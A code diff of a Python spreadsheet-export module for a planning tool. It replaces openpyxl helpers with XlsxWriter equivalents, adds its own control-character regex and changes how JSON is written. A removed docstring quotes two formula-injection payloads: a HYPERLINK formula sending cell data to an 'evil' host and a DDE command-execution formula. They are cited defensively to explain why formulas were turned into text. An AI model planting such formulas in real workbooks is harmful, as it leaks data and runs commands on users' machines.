@@ -19,12 +19,14 @@ What every table sheet gets:
 `Book.sheet` hands out a bare worksheet (with the same print setup) for free layouts such as a
 summary; `Book.formats` are the shared cell formats for it. Charts are native Excel charts, each on
 its own printed page of a chart sheet, their data on a data sheet with number formats.
-XlsxWriter cannot read: openpyxl stays the reader (and writes the template and validation report).
+XlsxWriter cannot read: openpyxl stays the reader, and edits the template and validation report
+(`planner.openpyxl_sheets`).
 """
 from __future__ import annotations
 
 import json
 import math
+import re
 from contextlib import ExitStack
 from dataclasses import dataclass
 from pathlib import Path
@@ -35,9 +37,6 @@ import pandas as pd
 import xlsxwriter
 import xlsxwriter.worksheet
 from xlsxwriter.utility import xl_col_to_name
-from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
-from openpyxl.styles import Font
-from openpyxl.utils import get_column_letter
 
 from planner.outputs import staged
 
@@ -50,7 +49,6 @@ SECONDS = "0.00"
 INTEGER = "0"
 BOOLEAN = '"TRUE";"TRUE";"FALSE"'
 RED, AMBER, GREEN = "#FFC7CE", "#FFEB9C", "#C6EFCE"
-HEADER_FONT = Font(bold=True)  # openpyxl, for the template and the validation report
 # XlsxWriter: user text stays text
 SAFE_TEXT = {"strings_to_formulas": False, "strings_to_urls": False, "strings_to_numbers": False}
 WIDE = 110  # characters of column width above which a sheet prints landscape
@@ -58,6 +56,7 @@ MAX_WIDTH = 60
 PAGE_ROWS = 32  # rows of default height per landscape page of a chart sheet
 CHART_SIZE = (920, 560)  # px: fits one landscape page (Letter or A4) without scaling
 MAX_CELL_TEXT = 32767  # Excel's limit on the characters of one cell
+ILLEGAL_CHARACTERS = re.compile(r"[\000-\010]|[\013-\014]|[\016-\037]")  # control characters XML cannot hold
 
 
 def number_format(column: str) -> str | None:
@@ -87,7 +86,7 @@ def footer_text(input_name: str, scenario: str) -> str:
 
 def safe_text(text: str) -> str:
     """Text a workbook can hold: control characters replaced, at most Excel's 32,767 characters."""
-    return ILLEGAL_CHARACTERS_RE.sub("\ufffd", text)[:MAX_CELL_TEXT]
+    return ILLEGAL_CHARACTERS.sub("\ufffd", text)[:MAX_CELL_TEXT]
 
 
 def cell_value(value):
@@ -124,7 +123,7 @@ class TableInfo:
     first_row: int = 0  # 0-based row of the header
 
     def column_letter(self, column: str) -> str:
-        return get_column_letter(self.columns.index(column) + 1)
+        return xl_col_to_name(self.columns.index(column))
 
 
 class Book:
@@ -434,25 +433,6 @@ def _fit_width(column: str, series: pd.Series, code: str | None, kind: str) -> f
     return float(min(max(content, len(column) + 3, 8) + 1, MAX_WIDTH))
 
 
-def write_table(ws, frame: pd.DataFrame) -> None:
-    """An openpyxl sheet (template, validation report) with a frozen bold header, filters and fitted widths."""
-    columns = list(frame.columns)
-    ws.append(columns)
-    for row in frame.itertuples(index=False):
-        ws.append([cell_value(v) for v in row])
-    for cell in ws[1]:
-        cell.font = HEADER_FONT
-    ws.freeze_panes = "A2"
-    if columns:
-        ws.auto_filter.ref = f"A1:{get_column_letter(len(columns))}{max(len(frame) + 1, 2)}"
-    for i, column in enumerate(columns, start=1):
-        sample = [str(column)] + [str(v) for v in frame[column].head(200)]
-        ws.column_dimensions[get_column_letter(i)].width = min(max(len(s) for s in sample) + 3, MAX_WIDTH)
-    ws.print_title_rows = "1:1"
-    ws.page_setup.fitToWidth, ws.page_setup.fitToHeight = 1, 0
-    ws.sheet_properties.pageSetUpPr.fitToPage = True
-
-
 def write_tables(sheets: dict[str, pd.DataFrame], target: Path, *, footer: str = "",
                  notes: dict[str, dict[str, str]] | None = None) -> None:
     """Every table on its own sheet, nothing else (the simplest use of `Book`)."""
@@ -461,25 +441,13 @@ def write_tables(sheets: dict[str, pd.DataFrame], target: Path, *, footer: str =
             book.table(name, frame, notes=(notes or {}).get(name))
 
 
-def save_workbook(wb, target: Path, keep_formulas: frozenset = frozenset()) -> None:
-    """Save an openpyxl workbook reeplan made (template, validation report) through planner.outputs.
-
-    Text stays text: openpyxl stores a string starting with '=' as a formula, so a name such as
-    `=HYPERLINK("http://evil/?"&A1)` or a DDE payload `=cmd|' /C calc'!A0` would run in the planner's
-    spreadsheet. reeplan writes no formulas of its own; `keep_formulas` ((sheet title, coordinate)) are
-    formulas of the planner's own input workbook, kept in a validation report.
-    """
-    for ws in wb.worksheets:
-        for cell in ws._cells.values():  # only the cells that exist; iter_rows would create the rest
-            if cell.data_type == "f" and isinstance(cell.value, str) and (ws.title, cell.coordinate) not in keep_formulas:
-                cell.data_type = "s"
-    with staged(target) as tmp:
-        wb.save(tmp)
-
-
 def write_json(payload: dict, target: Path) -> None:
+    """JSON with null for what is infinite or missing; indented when small, compact (and fast) when large."""
+    text = json.dumps(payload, allow_nan=False, default=_json_default)
+    if len(text) < 2**20:
+        text = json.dumps(payload, indent=2, allow_nan=False, default=_json_default)
     with staged(Path(target)) as tmp:
-        tmp.write_text(json.dumps(payload, indent=2, allow_nan=False, default=_json_default), encoding="utf-8")
+        tmp.write_text(text, encoding="utf-8")
 
 
 def _json_default(value):
@@ -493,4 +461,4 @@ def _json_default(value):
 
 
 __all__ = ["AMBER", "Book", "Chart", "GREEN", "MONEY", "PERCENT", "RED", "TONNES", "TONNES_FINE", "cell_value",
-           "footer_text", "number_format", "safe_text", "save_workbook", "write_json", "write_table", "write_tables"]
+           "footer_text", "number_format", "safe_text", "write_json", "write_tables"]
